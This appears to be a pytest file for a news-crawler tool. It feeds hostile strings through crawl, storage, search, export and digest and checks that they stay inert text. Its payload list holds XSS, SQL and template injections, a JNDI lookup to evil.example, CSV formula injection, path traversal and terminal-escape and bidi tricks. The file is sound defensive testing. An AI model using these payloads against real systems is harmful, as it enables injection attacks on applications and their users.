"""Hostile words in pages, through crawl, archive, digest, search, export and status: they stay text everywhere."""

from __future__ import annotations

import html as markup
import json
import re
import subprocess
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from tests.crawler.sites import Site, crawl, html, page, rows
from tests.scheduler.test_main import bluewatch

NOW = datetime(2026, 11, 21, 8, 0, tzinfo=UTC)
ESC, CSI = "\x1b", "\x9b"
# Each follows the words "Peacekeepers patrol" in a title; some are in the first paragraph too.
HOSTILE = [
    "<script>alert(7)</script>", "<img src=x onerror=alert(7)>", "\"><svg onload=alert(7)>", "</title><script>x</script>",  # noqa: E501
    "javascript:alert(7)", "'; DROP TABLE articles; --", "\" OR 1=1 --", "NEAR(a b) AND * ^x", "col:umn \"unclosed",
    "[click](javascript:alert(7))", "![x](http://evil.example/x.png)", "# heading\n- list", "`code` | table | row",
    "{{ 7*7 }}", "{% for x in y %}", "${jndi:ldap://evil.example}", "%s %n %(name)s {0}", "=HYPERLINK(\"http://evil\")",
    "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "../../etc/passwd", "line\r\nINFO forged log line", f"{ESC}[31mred{ESC}[0m",
    f"{ESC}]0;owned\x07 {CSI}2J", "\u202egnp.exe \u2066x\u2069 \u200f", "nul \x00 and bell \x07 and del \x7f",
]  # fmt: skip
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
TURNING = re.compile("[\u202a-\u202e\u2066-\u2069]")


def hostile(n: int, words: str) -> bytes:
    printed = markup.escape(words).encode()
    plain = page(n)
    title = b"Peacekeepers patrol village %d" % n
    return plain.replace(title, b"Peacekeepers patrol " + printed).replace(
        b"<p>", b"<p>They said: " + printed + b". ", 1
    )


class World:
    def __init__(self, folder: Path) -> None:
        self.folder, self.data = folder, folder / "data"
        with_reason = Site({"/feed.xml": (302, {"Location": "http://outside.example/" + "%1b[31m<script>"}, b"")})
        one = Site().articles(*range(len(HOSTILE)))
        for n, words in enumerate(HOSTILE):
            one.routes[f"/a/{n}"] = html(hostile(n, words))
        self.sources = [one.source(), with_reason.source("broken", name="<b>Broken</b> | desk")]
        crawl(self.data, *self.sources, at=NOW)
        one.close()
        with_reason.close()
        (folder / "bluewatch.toml").write_text(
            '[crawl]\ncontact = "desk@newsroom.example"\n[sources]\npackaged = "none"\n'
        )

    def run(self, *words: str) -> str:
        done: subprocess.CompletedProcess[str] = bluewatch(*words, "--data", str(self.data), folder=self.folder)
        assert done.returncode in (0, 1), done.stderr
        assert "Traceback" not in done.stderr
        assert not CONTROL.search(done.stderr)
        return done.stdout


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    return World(tmp_path_factory.mktemp("hostile-text"))


def test_every_hostile_title_is_kept_as_text_without_control_characters(world: World) -> None:
    found: list[dict[str, Any]] = rows(world.data, "SELECT url, title, body FROM articles")
    titles = {int(row["url"].rpartition("/")[2]): row["title"] for row in found}
    assert len(titles) == len(HOSTILE)
    assert not any(CONTROL.search(row["title"] + row["body"]) for row in found)
    for n, words in enumerate(HOSTILE):
        plain = " ".join(CONTROL.sub("", TURNING.sub("", words)).replace("\u200f", "").split())
        kept = " ".join(TURNING.sub("", titles[n]).replace("\u200f", "").split())
        seen = re.sub(r"\s*\[(?:31|0)m|\s*\]0;owned|\s*2J", "", plain)
        assert re.sub(r"\s", "", seen)[:12] in re.sub(r"\s|�", "", kept), (n, kept)


@pytest.mark.parametrize(
    "words", [("search", "patrol", "--limit", "50"), ("status",), ("coverage",)], ids=lambda w: w[0]
)
def test_what_is_printed_carries_no_control_and_no_turning_character(world: World, words: tuple[str, ...]) -> None:
    said = world.run(*words)
    assert said
    assert not CONTROL.search(said)
    assert not TURNING.search(said)


def test_an_export_is_read_back_whole(world: World) -> None:
    lines = world.run("export", "--format", "jsonl").splitlines()
    assert len([json.loads(line) for line in lines]) == len(HOSTILE)
    cells = world.run("export", "--format", "csv")
    assert not re.search(r"(?m)(?:^|,)\"?[=@+]", cells)


def test_a_digest_is_inert(world: World) -> None:
    world.run("digest", "--week", "2026-W47", "--preview")
    written = [path for place in (world.data, world.folder) for path in place.rglob("*2026-W47*") if path.is_file()]
    # What a PDF holds is read back in tests/reports/test_forms.py.
    files = {path.suffix: path.read_text("utf-8") for path in written if path.suffix != ".pdf"}
    assert {".html", ".md"} <= set(files)
    page_text = files[".html"]
    assert not re.search(
        r"<(?:script|img|svg onload|b>Broken)|\bon\w+=alert(?![^<]*&)|href=\"javascript:", page_text, re.IGNORECASE
    )
    assert 'evil.example/x.png"' not in page_text
    assert not re.search(r"(?<!\\)\]\(javascript:|(?<!\\)!\[x\]|^# heading|^<script", files[".md"], re.MULTILINE)
    assert "49" not in re.findall(r"patrol (\S+)", page_text)
    for text in files.values():
        assert not CONTROL.search(text)
        assert not TURNING.search(text)
